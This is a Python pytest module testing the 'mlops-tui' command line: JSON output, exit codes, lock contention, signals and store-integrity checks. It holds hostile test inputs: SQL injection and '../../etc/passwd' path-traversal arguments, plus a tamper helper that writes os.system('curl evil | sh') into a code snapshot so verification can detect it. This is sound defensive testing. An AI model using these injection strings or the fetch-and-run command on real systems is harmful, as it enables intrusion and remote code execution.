"""The CLI contract (docs/operator-guide.md, "Exit codes"), through the real `mlops-tui` in a subprocess.

stdout is data: with --json exactly one JSON document, on success or failure. Errors are one
line on stderr, never a traceback, with the documented exit code.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import (
    TESTS_DIR,
    host_environment,
    register_real_version,
    run_cli,
    sha256_file,
)

from mlops_tui.core.errors import InvalidNameError
from mlops_tui.core.models import DeploymentKind
from mlops_tui.services.deployments import record_deployment
from mlops_tui.services.maintenance import verify_store
from mlops_tui.services.registry import list_versions
from mlops_tui.services.workspace import Workspace, init_workspace
from mlops_tui.store import deployments as deployment_sql
from mlops_tui.store.schema import CURRENT_SCHEMA

WORKER = TESTS_DIR / "proc_worker.py"


def json_ok(result: tuple[int, str, str]) -> dict:
    code, out, err = result
    assert code == 0, err
    assert "Traceback" not in err
    return json.loads(out)  # the whole of stdout is one document


def json_error(result: tuple[int, str, str], code: int, kind: str | None = None) -> dict:
    returned, out, err = result
    assert returned == code, (returned, out, err)
    assert "Traceback" not in err
    document = json.loads(out)
    assert set(document) == {"error"}
    error = document["error"]
    assert {"code", "kind", "message"} <= set(error) <= {"code", "kind", "message", "detail"}
    assert error["code"] == code
    if kind is not None:
        assert error["kind"] == kind
    assert err.startswith("error: ") and error["message"] in err
    return error


def human_error(result: tuple[int, str, str], code: int) -> str:
    returned, out, err = result
    assert returned == code, (returned, out, err)
    assert out == ""  # nothing for humans on stdout
    assert "Traceback" not in err
    assert err.startswith("error: ")
    return err


# -- a populated workspace, shared by the read-only checks of this module ---------------


@pytest.fixture(scope="module")
def populated(tmp_path_factory) -> Workspace:
    """v1 (champion of `a`, with data) <- v2 (active on production); v3 in regime `b`."""
    ws = init_workspace(tmp_path_factory.mktemp("cli") / "ws")
    register_real_version(ws, seed=1, with_data=True, metrics={"r2": 0.9})
    record_deployment(ws, kind=DeploymentKind.CHAMPION, subject="a", version_id="v1",
                      action="promote", reason="first")
    register_real_version(ws, seed=2, metrics={"r2": 0.95})
    record_deployment(ws, kind=DeploymentKind.ACTIVE, subject="production", version_id="v2",
                      action="deploy", reason="better")
    register_real_version(ws, regime="b", seed=3)
    import numpy

    (ws.root.parent / "requirements.txt").write_text(
        "# pins for the serving image\nscikit-learn==0.0.1\n"
        f"numpy=={numpy.__version__}  # same as here\nsomething-else==1.0\n")
    return ws


def _check_status(doc: dict, ws: Workspace) -> None:
    assert doc["workspace"] == str(ws.root)
    assert doc["schema_version"] == CURRENT_SCHEMA
    assert doc["counts"]["model_versions"] == 3
    assert doc["active"]["production"]["to"] == "v2"
    assert doc["champions"]["a"]["to"] == "v1"


def _check_list(doc: dict, ws: Workspace) -> None:
    assert doc["total"] == 3 and [v["id"] for v in doc["versions"]] == ["v3", "v2", "v1"]


def _check_show(doc: dict, ws: Workspace) -> None:
    assert doc["id"] == "v2" and doc["parent"] == "v1" and doc["active_on"] == ["production"]
    assert doc["environment"]["hash"] == host_environment().hash
    assert {f["path"] for f in doc["code"]["files"]} == {"train.py", "requirements.txt"}
    assert {"scikit-learn", "numpy", "skops"} <= set(doc["required_packages"])


def _check_lineage(doc: dict, ws: Workspace) -> None:
    assert doc["kind"] == "version" and doc["id"] == "v2"
    kinds = {(c["relation"], c["kind"]) for c in doc["children"]}
    assert {("code", "code"), ("weights", "weights"), ("environment", "environment"),
            ("parent", "version")} <= kinds
    parent = next(c for c in doc["children"] if c["relation"] == "parent")
    assert {c["relation"] for c in parent["children"]} >= {"train", "holdout"}


def _check_capture(doc: dict, ws: Workspace) -> None:
    assert doc["hash"] == host_environment().hash
    assert doc["packages"]["scikit-learn"] and doc["python_version"]


def _check_capture_requirements(doc: dict, ws: Workspace) -> None:
    assert doc["packages"]["scikit-learn"] == "0.0.1" and doc["package_count"] == 3
    assert doc["source"] == "requirements:requirements.txt"


def _check_diff_host(doc: dict, ws: Workspace) -> None:
    assert doc["verdict"] == "compatible" and doc["changes"] == [] and doc["python"] is None
    assert doc["left"] == "v1" and doc["right"] == "host" and doc["identical"] > 10


def _check_diff_versions(doc: dict, ws: Workspace) -> None:
    assert doc["verdict"] == "compatible" and doc["left"] == "v1" and doc["right"] == "v2"


def _check_diff_requirements(doc: dict, ws: Workspace) -> None:
    assert doc["verdict"] == "incompatible"
    # only what the file pins is compared; it says nothing of the other installed packages
    assert {(c["name"], c["verdict"]) for c in doc["changes"]} == {
        ("scikit-learn", "incompatible"), ("something-else", "compatible")}
    assert any("scikit-learn" in reason for reason in doc["reasons"])


def _check_deployments(doc: dict, ws: Workspace) -> None:
    assert doc["targets"]["production"]["to"] == "v2"
    assert doc["champions"]["a"]["to"] == "v1"


def _check_history(doc: dict, ws: Workspace) -> None:
    assert [(e["kind"], e["to"]) for e in doc["events"]] == [("active", "v2"),
                                                             ("champion", "v1")]


def _check_target_history(doc: dict, ws: Workspace) -> None:
    assert [e["subject"] for e in doc["events"]] == ["production"]


def _check_audit(doc: dict, ws: Workspace) -> None:
    actions = [e["action"] for e in doc["entries"]]
    assert actions == ["register", "deploy", "register", "promote", "register"]


def _check_verify(doc: dict, ws: Workspace) -> None:
    assert doc["ok"] is True
    assert doc["checked"] | {"versions": 3, "artifacts": 3, "code_snapshots": 1,
                             "deployment_events": 2} == doc["checked"]


def _check_migrate(doc: dict, ws: Workspace) -> None:
    assert doc == {"from": CURRENT_SCHEMA, "to": CURRENT_SCHEMA}


JSON_COMMANDS: list[tuple[tuple[str, ...], Callable[[dict, Workspace], None]]] = [
    (("status",), _check_status),
    (("models", "list"), _check_list),
    (("models", "show", "v2"), _check_show),
    (("lineage", "v2"), _check_lineage),
    (("env", "capture"), _check_capture),
    (("env", "capture", "--requirements", "{req}"), _check_capture_requirements),
    (("env", "diff", "v1", "host"), _check_diff_host),
    (("env", "diff", "v1", "v2"), _check_diff_versions),
    (("env", "diff", "v1", "{req}"), _check_diff_requirements),
    (("deployments", "list"), _check_deployments),
    (("deployments", "history"), _check_history),
    (("deployments", "history", "--target", "production"), _check_target_history),
    (("audit",), _check_audit),
    (("store", "verify"), _check_verify),
    (("store", "migrate"), _check_migrate),
]


@pytest.mark.parametrize(("args", "check"), JSON_COMMANDS, ids=lambda v: " ".join(v)
                         if isinstance(v, tuple) else "")
def test_json_commands_print_exactly_one_document(populated, args, check):
    requirements = str(populated.root.parent / "requirements.txt")
    args = tuple(a.replace("{req}", requirements) for a in args)
    check(json_ok(run_cli(*args, "--json", workspace=populated)), populated)


def test_human_output_goes_to_stdout_and_is_not_json(populated):
    requirements = str(populated.root.parent / "requirements.txt")
    code, out, err = run_cli("env", "diff", "v1", requirements, workspace=populated)
    assert code == 0, err
    assert "INCOMPATIBLE" in out and "because scikit-learn" in out
    with pytest.raises(json.JSONDecodeError):
        json.loads(out)
    code, out, err = run_cli("lineage", "v2", workspace=populated)
    assert code == 0 and out.startswith("v2 regime a") and "── weights sha256 " in out
    assert "[weights]" not in out  # the label already says what it is
    code, out, err = run_cli("models", "list", workspace=populated)
    assert code == 0 and "3 of 3 versions" in out


def test_lineage_dot(populated):
    code, out, err = run_cli("lineage", "v2", "--dot", workspace=populated)
    assert code == 0, err
    assert out.startswith("digraph lineage {\n") and out.endswith("}\n")
    assert '"version:v1" -> "version:v2" [label="parent"];' in out
    json_error(run_cli("lineage", "v2", "--dot", "--json", workspace=populated), 2, "usage")


def test_store_backup(populated, tmp_path):
    destination = tmp_path / "backup.duckdb"
    doc = json_ok(run_cli("store", "backup", str(destination), "--json", workspace=populated))
    assert doc == {"backup": str(destination)}
    copy = init_workspace(tmp_path / "restored")
    copy.store_path.unlink()
    destination.rename(copy.store_path)
    assert json_ok(run_cli("models", "list", "--json", workspace=copy))["total"] == 3
    json_error(run_cli("store", "backup", str(copy.store_path), "--json", workspace=populated),
               3, "conflict")


def test_init_then_status(tmp_path):
    target = tmp_path / "plant-a"
    doc = json_ok(run_cli("init", str(target), "--json"))
    assert doc == {"workspace": str(target), "config": str(target / "mlops.toml"),
                   "store": str(target / "store.duckdb"), "template": "regression",
                   "files": ["mlops.toml", "pipeline/train.py", "pipeline/params.toml",
                             "pipeline/requirements.txt"]}
    for folder in ("artifacts", "code", "data", "jobs", "pipeline", "serving"):
        assert (target / folder).is_dir()
    status = json_ok(run_cli("status", "--json", workspace=target))
    assert status["counts"]["model_versions"] == 0 and status["active"] == {}
    # through the environment variable; initialising twice is refused once the workspace is
    # no longer empty (tests/test_init_scaffold.py has the other cases)
    assert json_ok(run_cli("status", "--json", env={"MLOPS_TUI_WORKSPACE": str(target)}))
    (target / "data" / "mine.csv").write_text("id,ts\n")
    json_error(run_cli("init", str(target), "--json"), 3, "conflict")


def test_no_workspace_is_a_usage_error(tmp_path):
    error = json_error(run_cli("status", "--json"), 2, "not-found")  # cwd is an empty tmp dir
    assert "mlops-tui init" in error["message"]


# -- help ---------------------------------------------------------------------------------


def _command_paths() -> list[tuple[str, ...]]:
    import typer

    from mlops_tui.cli.main import app

    paths: list[tuple[str, ...]] = [()]

    def visit(command, prefix: tuple[str, ...]) -> None:
        for name, sub in getattr(command, "commands", {}).items():
            if getattr(sub, "commands", None):
                visit(sub, prefix + (name,))
            else:
                paths.append(prefix + (name,))

    visit(typer.main.get_command(app), ())
    return paths


HELP_PROBE = textwrap.dedent("""
    import contextlib, io, json, sys
    from mlops_tui.cli import main
    results = {}
    for path in json.loads(sys.argv[1]):
        sys.argv = ["mlops-tui", *path, "--help"]
        out = io.StringIO()
        with contextlib.redirect_stdout(out):
            try:
                main.run()
            except SystemExit as done:
                code = done.code
        results[" ".join(path)] = {"code": code, "text": out.getvalue()}
    print(json.dumps(results))
""")


def test_every_command_help_has_an_example():
    # one interpreter runs the real entry point once per command: ~30 fresh processes would
    # cost ten seconds and prove nothing more about the help texts
    paths = _command_paths()
    assert len(paths) > 15 and ("store", "verify") in paths
    done = subprocess.run([sys.executable, "-c", HELP_PROBE, json.dumps(paths)],
                          capture_output=True, text=True, timeout=120, check=False,
                          env=dict(os.environ, COLUMNS="200"))
    assert done.returncode == 0, done.stderr
    results = json.loads(done.stdout)
    assert sorted(results) == sorted(" ".join(p) for p in paths)
    failed = {name or "mlops-tui": r["code"] for name, r in results.items() if r["code"] != 0}
    assert failed == {}
    missing = [name or "mlops-tui" for name, r in results.items() if "Example:" not in r["text"]]
    assert missing == []
    code, out, err = run_cli("--help")  # and once through a process of its own
    assert code == 0 and "Example:" in out and err == ""


def test_usage_errors_exit_2():
    json_error(run_cli("no-such-command", "--json"), 2, "usage")
    json_error(run_cli("models", "show", "--json"), 2, "usage")  # missing argument
    code, out, err = run_cli("models", "list", "--limit", "-1")
    assert code == 2 and out == "" and "Traceback" not in err
    code, out, _ = run_cli("--version")
    assert code == 0 and out.startswith("mlops-tui ")


# -- errors -------------------------------------------------------------------------------


def test_unknown_version_suggests_close_ids(populated):
    for args in (("models", "show", "v4"), ("lineage", "v4"), ("env", "diff", "v4", "host")):
        error = json_error(run_cli(*args, "--json", workspace=populated), 2, "not-found")
        assert "unknown version 'v4'" in error["message"]
        assert "did you mean" in error["message"] and "v3" in error["message"]
    err = human_error(run_cli("models", "show", "v4", workspace=populated), 2)
    assert err.count("\n") == 1  # one line


HOSTILE_ARGUMENTS = [
    ("models", "list", "--regime", "../x"),
    ("models", "list", "--regime", "a" * 10_000),
    ("models", "list", "--regime", "x'; DROP TABLE model_versions; --"),
    ("deployments", "history", "--regime", "a;DROP TABLE x"),
    ("deployments", "history", "--target", "../../etc/passwd"),
    ("models", "show", "x'; DROP TABLE model_versions; --"),
    ("models", "show", "v" + "9" * 10_000),
    ("lineage", "../v1"),
]


@pytest.mark.parametrize("args", HOSTILE_ARGUMENTS, ids=lambda a: " ".join(a)[:40])
def test_invalid_names_exit_2_and_change_nothing(populated, args):
    before = sha256_file(populated.store_path)
    error = json_error(run_cli(*args, "--json", workspace=populated), 2)
    assert error["kind"] in ("invalid-name", "usage")
    assert len(error["message"]) < 300
    assert sha256_file(populated.store_path) == before
    assert list_versions(populated).total == 3


def test_nul_bytes_cannot_reach_the_cli_and_are_refused_by_services(workspace, register):
    # argv cannot carry a NUL byte at all, so the service layer is checked directly
    with pytest.raises(ValueError, match="null byte"):
        run_cli("models", "list", "--regime", "a\x00b", workspace=workspace)
    register()
    with pytest.raises(InvalidNameError):
        list_versions(workspace, regime="a\x00b")
    with pytest.raises(InvalidNameError):
        record_deployment(workspace, kind=DeploymentKind.ACTIVE, subject="prod\x00uction",
                          version_id="v1", action="deploy", reason="x")
    with pytest.raises(InvalidNameError):
        register(regime="a\x00b")
    assert list_versions(workspace).total == 1


def _hold(kind: str, ws: Workspace, seconds: str) -> tuple[subprocess.Popen, int]:
    holder = subprocess.Popen([sys.executable, str(WORKER), kind, str(ws.root), seconds],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    line = holder.stdout.readline()
    assert line, holder.stderr.read()
    return holder, json.loads(line)["pid"]


def _stop(holder: subprocess.Popen) -> None:
    if holder.poll() is None:
        holder.kill()
    holder.communicate(timeout=30)


def test_store_busy_exits_4_naming_the_holder(workspace):
    holder, pid = _hold("hold-write", workspace, "30")  # killed below
    try:
        quick = {"MLOPS_TUI_LOCK_TIMEOUT": "0.3"}
        error = json_error(run_cli("status", "--json", workspace=workspace, env=quick), 4, "busy")
        assert f"pid {pid}" in error["message"] and "proc_worker hold-write" in error["message"]
        err = human_error(run_cli("store", "migrate", workspace=workspace, env=quick), 4)
        assert f"pid {pid}" in err
        assert holder.poll() is None
    finally:
        _stop(holder)


def _wait_until_it_opens(process: subprocess.Popen, path: Path, timeout: float = 30) -> None:
    """Block until `process` holds `path` open (Linux /proc), i.e. it is past start-up."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        assert process.poll() is None, process.communicate()
        fds = Path(f"/proc/{process.pid}/fd")
        try:
            if any(os.path.realpath(fd) == str(path.resolve()) for fd in fds.iterdir()):
                return
        except OSError:  # a descriptor closed while we looked
            pass
        time.sleep(0.02)
    raise AssertionError(f"{process.args} never opened {path}")


@pytest.mark.parametrize(("signal_number", "expected"), [(signal.SIGINT, 130),
                                                         (signal.SIGTERM, 143)])
def test_signals_while_waiting_for_the_store(workspace, signal_number, expected):
    holder, _ = _hold("hold-write", workspace, "30")  # killed below
    try:
        waiting = subprocess.Popen(
            [sys.executable, "-m", "mlops_tui.cli.main", "--workspace", str(workspace.root),
             "status", "--json"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
            env=dict(os.environ, MLOPS_TUI_LOCK_TIMEOUT="30"),
            # a child that inherits an ignored SIGINT (as from a shell's `&`) would never see it
            preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
        _wait_until_it_opens(waiting, workspace.root / "store.lock")
        time.sleep(0.1)  # now in the lock's wait loop
        assert waiting.poll() is None
        waiting.send_signal(signal_number)
        out, err = waiting.communicate(timeout=20)
        assert waiting.returncode == expected, (out, err)
        assert "Traceback" not in err
    finally:
        _stop(holder)


@pytest.mark.parametrize("content", [b"garbage, not a database\n" * 100, b""],
                         ids=["garbage", "empty"])
def test_not_a_store_exits_5_and_is_left_alone(workspace, content):
    workspace.store_path.write_bytes(content)
    for args in (("status", "--json"), ("store", "verify", "--json"),
                 ("store", "migrate", "--json")):
        error = json_error(run_cli(*args, workspace=workspace), 5, "integrity")
        assert "not a readable mlops-tui store" in error["message"]
        assert workspace.store_path.read_bytes() == content


def test_newer_schema_exits_5_and_is_left_alone(workspace):
    with workspace.store.write("simulate-newer") as tx:
        tx.execute("UPDATE meta SET value = ? WHERE key = 'schema_version'",
                   [str(CURRENT_SCHEMA + 1)])
    before = sha256_file(workspace.store_path)
    for args in (("status", "--json"), ("store", "migrate", "--json"),
                 ("store", "verify", "--json")):
        error = json_error(run_cli(*args, workspace=workspace), 5, "integrity")
        assert "newer than this mlops-tui" in error["message"]
    assert sha256_file(workspace.store_path) == before


# -- store verify: each invariant broken on purpose --------------------------------------


def _tamper_artifact(ws: Workspace) -> str:
    path = ws.root / list_versions(ws).versions[-1].artifact.path
    path.chmod(0o644)
    data = bytearray(path.read_bytes())
    data[-10] ^= 0xFF
    path.write_bytes(bytes(data))
    return "version v1: artifact"


def _delete_artifact(ws: Workspace) -> str:
    (ws.root / list_versions(ws).versions[-1].artifact.path).unlink()
    return "version v1: artifact"


def _change_code_blob(ws: Workspace) -> str:
    from mlops_tui.artifacts.blobs import blob_path
    from mlops_tui.services.registry import show_version

    code = show_version(ws, "v1").code
    entry = next(f for f in code.files if f.path == "train.py")
    path = blob_path(ws.code_root, entry.sha256)
    path.chmod(0o644)
    path.write_text("import os\nos.system('curl evil | sh')\n")
    return f"code snapshot {code.hash[:12]}: train.py"


def _event_without_audit(ws: Workspace) -> str:
    with ws.store.write("break-audit") as tx:
        seq = deployment_sql.append_event(
            tx, kind=DeploymentKind.ACTIVE, subject="production", from_version=None,
            to_version=1, action="deploy", actor="intruder", reason="no audit")
    return f"deployment event {seq} has no audit row"


def _champion_missing_version(ws: Workspace) -> str:
    with ws.store.write("break-champion") as tx:
        seq = deployment_sql.append_event(
            tx, kind=DeploymentKind.CHAMPION, subject="a", from_version=None, to_version=99,
            action="promote", actor="intruder", reason="ghost")
        deployment_sql.append_audit(tx, actor="intruder", action="promote",
                                    subject="champion:a", event_seq=seq)
    return "champion of regime a: version v99 does not exist"


def _missing_environment(ws: Workspace) -> str:
    with ws.store.write("break-env") as tx:
        tx.execute("DELETE FROM env_snapshots")
    return "version v1: its environment"


BREAKAGES = [_tamper_artifact, _delete_artifact, _change_code_blob, _event_without_audit,
             _champion_missing_version, _missing_environment]


@pytest.mark.parametrize("breakage", BREAKAGES, ids=lambda f: f.__name__.strip("_"))
def test_store_verify_names_what_is_broken(workspace, register, breakage):
    register()
    assert verify_store(workspace).ok
    expected = breakage(workspace)
    error = json_error(run_cli("store", "verify", "--json", workspace=workspace), 5,
                       "integrity")
    assert expected in error["message"]
    assert len(error["detail"]["problems"]) == 1
    assert expected in error["detail"]["problems"][0]
    err = human_error(run_cli("store", "verify", workspace=workspace), 5)
    assert expected in err


# -- a read-only workspace ----------------------------------------------------------------


def _mount_read_only(directory: Path) -> None:
    for command in (["mount", "--bind", str(directory), str(directory)],
                    ["mount", "-o", "remount,ro,bind", str(directory)]):
        done = subprocess.run(command, capture_output=True, text=True, check=False)
        if done.returncode != 0:
            if command[1] != "--bind":
                subprocess.run(["umount", str(directory)], check=False)
            message = f"cannot make a read-only bind mount: {done.stderr.strip()}"
            if os.environ.get("CI") == "true":
                pytest.fail(message)
            pytest.skip(message)


def test_a_read_only_workspace_refuses_writes_but_serves_reads(tmp_path, run_cli):
    parent = tmp_path / "ro"
    ws = init_workspace(parent / "ws")
    register_real_version(ws)
    _mount_read_only(parent)
    try:
        with pytest.raises(OSError):
            (ws.root / "probe").write_text("x")  # the mount really is read-only
        error = json_error(run_cli("store", "migrate", "--json", workspace=ws), 2, "read-only")
        assert "read-only" in error["message"]
        json_error(run_cli("init", str(parent / "new"), "--json"), 2, "read-only")
        assert json_ok(run_cli("models", "list", "--json", workspace=ws))["total"] == 1
        assert json_ok(run_cli("store", "verify", "--json", workspace=ws))["ok"]
        assert json_ok(run_cli("status", "--json", workspace=ws))["counts"]["model_versions"] == 1
        assert "v1" in run_cli("lineage", "v1", workspace=ws)[1]
    finally:
        if subprocess.run(["umount", str(parent)], check=False).returncode != 0:
            subprocess.run(["umount", "-l", str(parent)], check=False)
    assert not (parent / "new").exists()
